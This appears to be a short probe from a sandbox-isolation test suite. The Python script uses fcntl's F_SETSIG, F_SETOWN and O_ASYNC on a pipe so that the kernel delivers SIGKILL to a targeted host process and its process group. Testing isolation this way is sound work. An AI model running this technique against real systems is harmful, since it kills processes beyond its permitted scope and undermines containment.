"""Letting the kernel send a signal: a file that belongs to a process of the host."""

import fcntl
import os
import signal

for pid in (TARGET["victim"], -TARGET["victim"]):
    reading, writing = os.pipe()
    try:
        fcntl.fcntl(reading, 10, signal.SIGKILL)
        fcntl.fcntl(reading, fcntl.F_SETOWN, pid)
        fcntl.fcntl(reading, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
        os.write(writing, b"x")
    except OSError:
        continue
